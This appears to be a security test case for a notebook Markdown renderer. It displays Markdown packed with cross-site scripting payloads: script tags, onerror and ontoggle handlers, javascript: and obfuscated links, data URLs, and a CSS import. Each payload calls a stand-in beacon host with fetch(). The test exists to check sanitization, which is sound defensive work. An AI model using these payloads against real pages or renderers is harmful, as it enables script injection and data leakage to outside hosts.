# tries: to run scripts by Markdown that it displays: raw HTML, addresses, references, footnotes, mathematics
# must: show words, run nothing, and load no picture from elsewhere
# score: 10
from IPython.display import Markdown, display

CALL = "fetch('http://beacon.example/markdown');top.owned=self.owned=1;alert(1)"
display(
    Markdown(f"""
# 3 <script>{CALL}</script><img src=x onerror="{CALL}">

[x](javascript:{CALL}) [y](<java\tscript:{CALL}>) [z](data:text/html,<script>{CALL}</script>) ![](http://beacon.example/m.png)

![]("onerror="{CALL}") [reference][1] `<script>{CALL}</script>` <http://beacon.example/auto> $<img src=x onerror="{CALL}">$

$$\\text{{</script><script>{CALL}</script>}}$$

[1]: javascript:{CALL} "\\"onmouseover={CALL}"

<details open ontoggle="{CALL}"><style>@import "http://beacon.example/m.css"</style>

    </code></pre><script>{CALL}</script>
""")
)


def add(a, b):
    return a + b
